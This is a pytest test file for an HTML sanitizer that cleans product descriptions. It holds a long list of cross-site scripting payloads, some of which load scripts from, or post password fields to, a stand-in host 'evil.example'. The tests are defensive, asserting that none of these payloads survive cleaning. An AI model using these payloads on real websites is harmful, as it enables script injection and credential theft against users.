"""What stays of HTML that merchants and apps write, and what goes."""

import time
from html.parser import HTMLParser

import pytest

from openmall.http.web.rich_text import MAX_LENGTH, cleaned, has_markup

KEPT = [
    "<p>one <b>bold</b>, <strong>strong</strong>, <i>i</i>, <em>em</em>, <u>u</u>, <s>s</s></p>",
    '<h2>Size</h2><ul><li>S</li><li>M</li></ul><ol start="3"><li>x</li></ol>',
    '<img src="/files/a/b.png" alt="An apron" width="600" height="400">',
    '<img src="https://example.com/a.png" alt="">',
    '<blockquote><p>“quoted” &amp; &lt;tags&gt;</p></blockquote><hr><pre tabindex="0">a\n b</pre>',
    '<table tabindex="0"><thead><tr><th scope="col">Size</th></tr></thead>'
    '<tbody><tr><td colspan="2">M</td></tr></tbody></table>',
    "<p>한글 설명<br>둘째 줄</p>",
]


@pytest.mark.parametrize("text", KEPT)
def test_text_of_a_description_stays_as_written(text: str) -> None:
    assert cleaned(text) == text


def test_links_say_that_they_lead_away() -> None:
    assert cleaned('<a href="https://example.com/a?b=1&amp;c=2" title="t">x</a>') == (
        '<a href="https://example.com/a?b=1&amp;c=2" title="t" rel="noopener nofollow">x</a>'
    )


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src='data:text/html,<script>alert(1)</script>'>",
    '<img src="//evil.example/a.png">',
    '<img src="/\\evil.example/a.png">',
    '<img src="http://evil.example/a.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<p class="done" id="main">x</p>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    '<input autofocus onfocus="alert(1)">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<a href=https://a.example target=_top onclick=alert(1)>x</a>",
    "<td background=javascript:alert(1)>x</td>",
    "</section></main><h1>x</h1><title>x</title>",
    "<p\x00onclick=alert(1)>x</p>",
    "<img/src=x/onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
]
ALLOWED = {"a", "b", "br", "div", "h2", "img", "p", "span", "table", "tbody", "td", "tr"}
ADDRESSES = ("https://", "/files/", "http://", "mailto:", "tel:")


class _Reader(HTMLParser):
    """Finds the elements and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p>a {} b</p>", "<table><tr><td>{}</td></tr></table>"])
def test_nothing_of_an_attack_is_left(attack: str, around: str) -> None:
    html = cleaned(around.format(attack))

    assert html is not None
    reader = _Reader()
    reader.feed(html)
    reader.close()
    for tag, attributes in reader.found:
        assert tag in ALLOWED, html
        assert attributes.keys() <= {"href", "rel", "src", "alt", "title", "tabindex"}, html
        if tag == "img" and "src" in attributes:
            assert (attributes["src"] or "").startswith("https://"), html
        if "href" in attributes:
            assert (attributes["href"] or "").startswith(ADDRESSES), html
    assert cleaned(html) == html


HOSTILE = {
    "nested": "<div>",
    "formatting that is never closed": "<a><b><i><u><s>x</p>",
    "end tags in comments": "<div><!--</div>-->",
    "end tags in attributes": '<div title="</div>">',
    "end tags in attributes behind a bracket": "<div title='></div>'>",
    "end tags in an attribute with another quote": '<div title="\' ></div>">',
    "end tags without quotes": "<div a=</div>",
    "end tags in text": "<div><textarea></div></textarea>",
    "quotes that never end": "<a =\"<a ='",
    "tags that never end": "<a <a ",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_texts_cost_little_time(text: str) -> None:
    long = (text * MAX_LENGTH)[:MAX_LENGTH]
    begun = time.process_time()

    cleaned(long)

    assert time.process_time() - begun < 1


def test_a_text_that_is_too_deep_or_too_long_is_none() -> None:
    assert cleaned("<div>" * 20_000) is None
    assert cleaned("<p>x</p>" * (MAX_LENGTH // 8)) is not None
    assert cleaned("<p>x</p>" * (MAX_LENGTH // 8) + "x") is None


def test_long_text_of_an_editor_is_cleaned() -> None:
    text = "<h2>x</h2><ul><li>한글 <b>x</b></li></ul><div><div><p>y</p></div></div>" * 1_000

    assert cleaned(text) == text


def test_plain_text_is_no_markup() -> None:
    assert has_markup("a <b>bold</b> word")
    assert not has_markup("3 < 4 and 5 > 4\nnext line")
